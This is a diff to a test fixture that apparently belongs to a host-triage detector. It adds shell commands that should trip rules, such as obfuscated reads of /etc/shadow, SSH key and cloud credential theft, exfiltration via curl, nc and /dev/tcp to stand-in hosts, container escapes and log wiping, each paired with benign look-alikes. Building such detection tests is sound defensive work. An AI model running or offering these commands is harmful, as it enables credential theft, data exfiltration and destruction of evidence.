@@ -79,10 +79,13 @@ HISTORY = {
         "busybox cat /etc/shadow", "python3 -c \"print(open('/etc/shadow').read())\"",
         "tar czf /tmp/x.tgz /etc/passwd /etc/shadow", "getent shadow", "xxd /etc/shadow | head",
         "dd if=/etc/shadow of=/dev/shm/s", "curl -F f=@/etc/shadow http://198.51.100.7/u", "less /etc/gshadow",
+        "cat /etc/sha''dow", "cat /e?c/sh?dow", "cat /etc/shad*", 'cat /etc/"shadow"', "cat /etc/sh\\adow",
+        "python3 -c 'import spwd;print(spwd.getspall())'", "cat $(echo L2V0Yy9zaGFkb3c= | base64 -d)",
     ], [
         "ls -l /etc/shadow", "chmod 640 /etc/shadow", "chown root:shadow /etc/shadow", "stat /etc/shadow",
         "sha256sum /etc/shadow", "cp -a /etc/shadow /etc/shadow.bak", "cp -p /etc/shadow{,.orig}", "vipw -s",
         "passwd -S alice", "chage -l alice", "grep alice /etc/passwd", "pwck -r",
+        "cat /etc/os-release", "ls /etc/s*", "tar czf /backup/etc.tgz /etc/*",
     ]),
     "TRI-CRED-003": ([
         "grep alice /etc/shadow", "awk -F: '$2 ~ /^\\$6/ {print $1\":\"$2}' /etc/shadow", "getent shadow alice",
@@ -104,10 +107,12 @@ HISTORY = {
         "tar cf - .aws .kube | gzip > /tmp/c.gz", "zip -r /tmp/keys.zip /root/.ssh",
         "7z a /tmp/d.7z ~/.docker/config.json", "cp -r ~/.ssh /tmp/", "cp /root/.aws/credentials /var/www/html/c.txt",
         "tar --create --file=/tmp/a.tar /home/alice/.ssh/id_ed25519",
+        "find / -name id_rsa -exec tar rvf /tmp/k.tar {} \\;", "cat ~/.ssh/id_rsa > /tmp/.k",
     ], [
         "tar czf backup.tgz /home/alice/projects", "tar czf etc.tgz /etc", "tar xzf dotfiles.tgz -C ~",
         "tar czf ssh-config.tgz /etc/ssh", "zip -r site.zip /var/www/html", "cp ~/.ssh/id_rsa.pub /tmp/",
         "mkdir -p ~/.ssh && chmod 700 ~/.ssh", "tar -C /srv -czf /backup/srv.tgz app",
+        "cat ~/.ssh/id_rsa.pub > /tmp/pub", "tar tvf /tmp/k.tar .ssh",
     ]),
     "TRI-CRED-006": ([
         "cat ~/.ssh/id_rsa", "cat /root/.aws/credentials", "find / -name id_rsa 2>/dev/null",
@@ -122,16 +127,22 @@ HISTORY = {
         "rsync -az /var/www/ backup@files.example.org:/srv/", "tar czf - /var/www | nc 198.51.100.7 9000",
         "nc 198.51.100.7 9000 < /tmp/db.sql", "cat app.log | curl -F 'f:1=<-' ix.io",
         "wget --post-file=/tmp/x.tgz http://203.0.113.7/up",
+        'curl -d "$(cat /etc/hosts)" https://drop.example.net/', "tar czf - /srv/app | ssh u@203.0.113.7 'cat > a.tgz'",
+        "ssh u@203.0.113.7 'cat > db.sql' < /tmp/db.sql", "cat /tmp/db.sql > /dev/tcp/203.0.113.7/80",
     ], [
         "scp user@203.0.113.9:/tmp/file .", "scp dump.sql backup01:/srv/", "rsync -a /srv/ 10.0.0.5:/srv/",
         "curl -X POST -d '{\"a\":1}' https://api.example.com/x", "curl -T x http://localhost:8080/",
         "curl --data-binary @body.json http://127.0.0.1:9200/_bulk", "curl -fsSL https://example.com/file -o file",
         "rsync -av /srv/ /mnt/backup/", "scp f user@db1.internal:/tmp/",
+        "ssh admin@203.0.113.7", "ssh -i key u@203.0.113.7 uptime", "pg_dump db | ssh backup01 'cat > db.sql'",
+        "echo > /dev/tcp/10.0.0.5/5432", "ssh u@203.0.113.7 uptime < /dev/null",
     ]),
     "TRI-EXFIL-002": ([
         "scp ~/.ssh/id_rsa user@203.0.113.9:", "curl -F f=@/root/.aws/credentials https://webhook.site/abc",
         "tar czf - ~/.ssh | curl -T - https://transfer.sh/k.tgz", "rsync -a /root/.ssh/ x@198.51.100.2:/tmp/k/",
         "cat /etc/shadow | nc 198.51.100.7 9001",
+        'curl -d "$(cat ~/.aws/credentials)" https://webhook.site/x',
+        "tar czf - ~/.ssh | ssh u@203.0.113.7 'cat > k.tgz'", "cat /etc/shadow > /dev/tcp/203.0.113.7/80",
     ], ["scp ~/.ssh/id_rsa.pub user@203.0.113.9:", "scp ~/.ssh/id_rsa user@10.0.0.5:",
         "scp /srv/report.pdf user@203.0.113.9:"]),
     "TRI-EXEC-001": ([
@@ -186,6 +197,8 @@ HISTORY = {
         "docker run -it --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh",
         "nsenter --target 1 --mount --uts --ipc --net --pid -- bash", "sudo podman run -v /:/h:rw fedora",
         "docker run --mount type=bind,source=/,target=/host alpine",
+        "docker run -v /etc:/mnt/etc alpine sh -c 'echo x >> /mnt/etc/passwd'",
+        "ctr run --privileged --mount type=bind,src=/,dst=/host,options=rbind:rw docker.io/library/alpine:latest x sh",
         "curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' "
         "-d '{\"Image\":\"alpine\",\"HostConfig\":{\"Binds\":[\"/:/host\"]}}' http://localhost/containers/create",
     ], [
@@ -196,6 +209,8 @@ HISTORY = {
         "gitlab/gitlab-runner:latest", "docker run --privileged -d --name dind docker:dind",
         "nsenter -t 12345 -n ss -ltnp", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
         "docker run -v /srv/data:/data postgres:16", "docker run -v $(pwd):/app -w /app node:20 npm test",
+        "docker run -v /etc/localtime:/etc/localtime:ro app", "docker run -v /etc/nginx:/etc/nginx:ro nginx",
+        "docker run -v /etc:/host/etc:ro datadog/agent",
     ]),
     "TRI-EXEC-009": (["docker run -d --privileged --pid=host --net=host sysdig/agent"],
                      ['docker run -d --pid="host" -v "/:/host:ro,rslave" quay.io/prometheus/node-exporter']),
@@ -204,10 +219,12 @@ HISTORY = {
         "export HISTFILE=", "export HISTSIZE=0", "SAVEHIST=0", "export HISTIGNORE='*'", "set +o history",
         "rm -f ~/.bash_history", "cat /dev/null > ~/.bash_history", "ln -sf /dev/null /root/.bash_history",
         "shred -u /root/.zsh_history",
+        "sed -i '/curl/d' ~/.bash_history", "kill -9 $$",
     ], [
         "history | tail", "echo $HISTFILE", "cat ~/.bash_history", "history -w", "export HISTCONTROL=ignoreboth",
         'echo "ls" >> ~/.bash_history', "grep ssh ~/.bash_history", "export HISTSIZE=10000",
         "export HISTFILE=~/.bash_history_root",
+        "kill -9 1234",
     ]),
     "TRI-EVADE-009": ([
         "rm -rf /var/log/*", "rm -f /var/log/auth.log", "shred -zu /var/log/secure", "truncate -s 0 /var/log/syslog",
@@ -217,12 +234,14 @@ HISTORY = {
         "sed -i '/203.0.113.9/d' /var/log/auth.log", "journalctl --rotate && journalctl --vacuum-time=1s",
         "journalctl --vacuum-size=1K", "rm -rf /var/log/journal/*", "utmpdump -r < /tmp/w > /var/log/wtmp",
         "sudo sh -c '> /var/log/secure'", "cp /dev/null /var/log/btmp", "ln -sf /dev/null /var/log/auth.log",
+        "for f in /var/log/*.log; do > $f; done", "ls /var/log/*.log | xargs truncate -s0", "rm -rf /var/log",
     ], [
         "rm /var/log/nginx/access.log.2.gz", "rm -f /var/log/*.gz", "rm /var/log/syslog.1",
         "rm /var/log/messages-20261101", 'find /var/log -name "*.gz" -mtime +30 -delete',
         "find /var/log -type f -mtime +90 -delete", "journalctl --vacuum-size=500M", "journalctl --vacuum-time=2weeks",
         "tail -f /var/log/syslog", 'echo "test" >> /var/log/app.log', "./app > /var/log/app.log 2>&1",
         "ls -la /var/log", "logrotate -f /etc/logrotate.conf", "grep sshd /var/log/auth.log > /tmp/ssh.txt",
+        'find /var/log -name "*.gz" | xargs rm', "for f in /var/log/nginx/*.log; do wc -l $f; done",
     ]),
     "TRI-EVADE-012": (["journalctl --vacuum-size=500M", "journalctl --vacuum-time=2d"],
                       ["journalctl --vacuum-time=1s", "journalctl -u nginx --since today"]),
@@ -230,6 +249,7 @@ HISTORY = {
         "systemctl stop rsyslog", "sudo systemctl disable --now auditd", "systemctl mask systemd-journald.service",
         "service auditd stop", "/etc/init.d/rsyslog stop", "pkill -9 rsyslogd", "kill -9 $(pidof auditd)",
         "killall -9 systemd-journald", "auditctl -e 0", "apt-get purge -y auditd", "systemctl stop falcon-sensor",
+        "pkill -f rsyslog",
     ], [
         "systemctl restart rsyslog", "systemctl status auditd", "service rsyslog reload",
         "systemctl kill -s HUP rsyslog.service", "pkill -HUP rsyslogd", "killall -USR1 systemd-journald",
@@ -377,7 +397,8 @@ def _check(kind: str, severity: str, **facts) -> dict:
     (_check("deleted_executable", "high", exe="/usr/sbin/nginx", pid=8), "TRI-PROC-007", "low"),
     (_check("deleted_executable", "high", exe="/usr/lib/postgresql/16/bin/postgres", pid=9), "TRI-PROC-007", "low"),
     (_check("writable_place_executable", "medium", exe="/dev/shm/x", pid=7), "TRI-PROC-003", "medium"),
-    (_check("writable_place_executable", "medium", exe="/tmp/go-build123/b001/exe/main", pid=7), None, None),
+    (_check("writable_place_executable", "medium", exe="/tmp/go-build123/b001/exe/main", pid=7), "TRI-PROC-008",
+     "info"),
     (_check("module_not_installed", "high", module="diamorphine"), "TRI-KERN-002", "high"),
     (_check("module_not_installed", "high", module="falcon_lsm_serviceable"), "TRI-KERN-007", "low"),
     (_check("module_not_installed", "medium", module="ext4"), "TRI-KERN-007", "low"),
